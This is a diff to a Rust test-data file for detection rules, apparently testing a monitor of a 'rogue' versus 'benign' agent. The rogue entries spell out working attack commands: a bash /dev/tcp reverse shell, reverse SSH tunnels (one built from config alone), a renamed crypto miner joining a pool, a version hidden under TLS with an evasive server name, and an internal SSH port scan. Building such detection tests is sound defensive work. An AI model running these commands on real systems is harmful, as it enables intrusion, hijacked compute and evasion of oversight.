@@ -1,6 +1,7 @@
 //! What the two agents do, as data: shell text, and the rule that must catch it.
 //!
-//! The scripts know `$DEMO` (scratch directory), `$TRIGGER`, `$SSH_PORT`, `$CRON`, `$UNIT`.
+//! The scripts know `$DEMO` (scratch directory), `$TRIGGER`, `$PEER` (address of another
+//! machine), `$CRON`, `$UNIT`.
 
 /// One thing that the rogue agent does.
 #[derive(Debug)]
@@ -46,9 +47,9 @@ pub(super) const ROGUE: &[Deed] = &[
     Deed {
         what: "opens a reverse SSH tunnel",
         // -f returns once the forwarding stands; the control socket ends it.
-        script: r#"ssh -F /dev/null -f -N -M -S "$DEMO/tunnel" -R 127.0.0.1:0:127.0.0.1:22 -p "$SSH_PORT" \
+        script: r#"ssh -F /dev/null -f -N -M -S "$DEMO/tunnel" -R 127.0.0.1:0:127.0.0.1:22 \
     -i "$DEMO/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile="$DEMO/ssh/known" \
-    -o BatchMode=yes -o ExitOnForwardFailure=yes -o LogLevel=ERROR root@127.0.0.1
+    -o BatchMode=yes -o ExitOnForwardFailure=yes -o LogLevel=ERROR "root@$PEER"
 close_tunnel"#,
         rule: "network/ssh_reverse_tunnel.yml",
     },
@@ -72,6 +73,49 @@ close_tunnel"#,
         script: r#""$TRIGGER" exec-memfd"#,
         rule: "execution/memfd.yml",
     },
+    Deed {
+        what: "logs a renamed miner in to a pool",
+        script: r#"cp "$TRIGGER" "$DEMO/indexer"; "$DEMO/indexer" miner "$PEER:8443" cryptonote"#,
+        rule: "mining/stratum.yml",
+    },
+    Deed {
+        what: "does the same under TLS",
+        // Between miner and carrier there are pipes: nothing in the clear.
+        script: r#"mkfifo "$DEMO/back"; cp "$(command -v openssl)" "$DEMO/carrier"
+"$DEMO/indexer" miner - cryptonote < "$DEMO/back" |
+    "$DEMO/carrier" s_client -quiet -no_ign_eof -connect "$PEER:443" -servername xmr.2miners.com > "$DEMO/back""#,
+        rule: "mining/pool_domain.yml",
+    },
+    Deed {
+        what: "opens a reverse tunnel by configuration alone, and it is used",
+        script: r#"printf '%s\n' 'Host relay' "HostName $PEER" 'User root' "IdentityFile $DEMO/ssh/client" 'BatchMode yes' \
+    'StrictHostKeyChecking no' "UserKnownHostsFile $DEMO/ssh/known" 'ExitOnForwardFailure yes' 'LogLevel ERROR' \
+    > "$DEMO/ssh/plain"
+{ cat "$DEMO/ssh/plain"; printf '%s\n' 'RemoteForward 127.0.0.1:9000 127.0.0.1:8000' 'SessionType none' \
+    'ForkAfterAuthentication yes' 'StdinNull yes' 'ControlMaster yes' "ControlPath $DEMO/tunnel"; } > "$DEMO/ssh/config"
+ssh -F "$DEMO/ssh/config" relay
+said=$(ssh -F "$DEMO/ssh/plain" relay bash -c "'exec 3<> /dev/tcp/127.0.0.1/9000; echo through >&3; head -n 1 <&3'")
+close_tunnel
+[ "$said" = through ]"#,
+        rule: "network/ssh_client_tunnel.yml",
+    },
+    Deed {
+        what: "gives a shell away to another machine",
+        script: r#"bash -c "bash -i >& /dev/tcp/$PEER/4444 0>&1"
+until grep -q uid= "$DEMO/held"; do sleep 0.05; done"#,
+        rule: "network/reverse_shell.yml",
+    },
+    Deed {
+        what: "looks for SSH on sixty machines",
+        script: r#"/usr/bin/python3 - <<'PYTHON'
+import socket
+for host in range(1, 61):
+    with socket.socket() as probe:
+        probe.settimeout(2)
+        probe.connect_ex((f"10.78.0.{host}", 22))
+PYTHON"#,
+        rule: "network/internal_scan.yml",
+    },
 ];
 
 /// The benign agent, in order. Local data only.
@@ -82,6 +126,31 @@ pub(super) const BENIGN: &[Task] = &[
 for number in 1 2 3 4 5; do echo "fn f$number() {}" > "file$number.rs"; git add .; git commit -qm "change $number"; done
 cd .. && git clone -q origin clone && cd clone
 echo more >> file1.rs && git commit -qam "more" && git push -q origin HEAD:refs/heads/more && git log --oneline | cat"#,
+    },
+    Task {
+        what: "git clone and fetch over SSH",
+        script: r#"export GIT_SSH_COMMAND="ssh -F /dev/null -i $DEMO/ssh/client -o BatchMode=yes -o StrictHostKeyChecking=no \
+    -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
+git clone -q "ssh://root@$PEER$DEMO/work/origin" over-ssh && cd over-ssh && git fetch -q && git log --oneline | cat"#,
+    },
+    Task {
+        what: "JSON-RPC with a service",
+        script: r#"/usr/bin/python3 - <<'PYTHON'
+import json, socket, threading
+
+def serve(listener):
+    with listener.accept()[0].makefile("rw") as file:
+        for line in file:
+            call = json.loads(line)
+            print(json.dumps({"jsonrpc": "2.0", "id": call["id"], "result": call["params"]}), file=file, flush=True)
+
+listener = socket.create_server(("127.0.0.1", 0))
+threading.Thread(target=serve, args=[listener], daemon=True).start()
+with socket.create_connection(listener.getsockname()).makefile("rw") as file:
+    for number, method in enumerate(["login", "submit", "tools/list", "eth_blockNumber"]):
+        print(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": [number]}), file=file, flush=True)
+        assert json.loads(file.readline())["result"] == [number]
+PYTHON"#,
     },
     Task {
         what: "cargo build and run",
